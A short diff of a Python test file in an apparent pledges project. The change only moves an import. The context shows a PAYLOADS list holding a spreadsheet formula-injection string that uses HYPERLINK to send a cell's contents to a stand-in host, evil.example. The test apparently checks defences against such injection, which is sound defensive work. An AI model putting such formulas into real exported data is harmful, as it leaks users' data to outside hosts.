@@ -14,11 +14,11 @@ import re
 from pathlib import Path
 
 import pytest
+from synth import write, write_dataset
 
 from conftest import run_build
 from pledges import models as m
 from pledges.yamlio import parse_yaml
-from synth import write, write_dataset
 
 PAYLOADS = [
     '=HYPERLINK("https://evil.example/?leak="&A1;"click")',
